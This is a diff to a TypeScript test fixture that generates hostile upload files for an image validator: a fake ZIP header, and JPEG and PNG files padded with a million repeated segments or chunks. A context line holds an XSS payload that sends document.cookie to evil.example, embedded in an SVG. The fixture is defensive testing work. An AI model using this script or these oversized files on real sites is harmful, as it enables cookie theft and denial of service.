@@ -4,7 +4,11 @@ import { aJpeg, anAvif, aPng, aWebp, twoHalves } from './pictures';
 
 const SCRIPT = '<script>fetch("//evil.example/?"+document.cookie)</script>';
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`;
-const ZIP = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), Buffer.from('evil.class')]);
+const ZIP = Buffer.concat([
+  Buffer.from('PK\x03\x04\x14', 'latin1'),
+  Buffer.alloc(25),
+  Buffer.from('evil.class'),
+]);
 
 const be32 = (value: number): Buffer => {
   const bytes = Buffer.alloc(4);
@@ -34,6 +38,14 @@ const withChunk = (png: Buffer, name: string, data: string | Buffer): Buffer =>
     png.subarray(0, PNG_HEADER_BYTES),
     pngChunk(name, Buffer.from(data as string)),
     png.subarray(PNG_HEADER_BYTES),
+  ]);
+
+/** A picture with the same part as often as a file of 8 MB has room for. */
+const withParts = (content: Buffer, at: number, part: Buffer): Buffer =>
+  Buffer.concat([
+    content.subarray(0, at),
+    Buffer.alloc(8_000_000 - (8_000_000 % part.length), part),
+    content.subarray(at),
   ]);
 
 /** One bit a pixel, all black: small as a file, not as a picture. */
@@ -160,6 +172,19 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     ['half a PNG', 'a.png', half(png), 'picture-damaged'],
     ['half a WebP', 'a.webp', half(webp), 'picture-damaged'],
     ['half an AVIF', 'a.avif', half(avif), 'picture-damaged'],
+    [
+      'a JPEG of a million segments',
+      'a.jpg',
+      withParts(jpeg, 2, segment(0xef, Buffer.alloc(0))),
+      'picture-damaged',
+    ],
+    ['a JPEG of a million fill bytes', 'a.jpg', withParts(jpeg, 2, Buffer.from([0xff])), 'picture-damaged'],
+    [
+      'a PNG of a million chunks',
+      'a.png',
+      withParts(png, PNG_HEADER_BYTES, pngChunk('teSt', Buffer.alloc(0))),
+      'picture-damaged',
+    ],
     ['a PNG without its pixels', 'a.png', flatPng(64, 64, 3), 'picture-damaged'],
     ['a PNG with broken pixels', 'a.png', broken, 'picture-damaged'],
     [
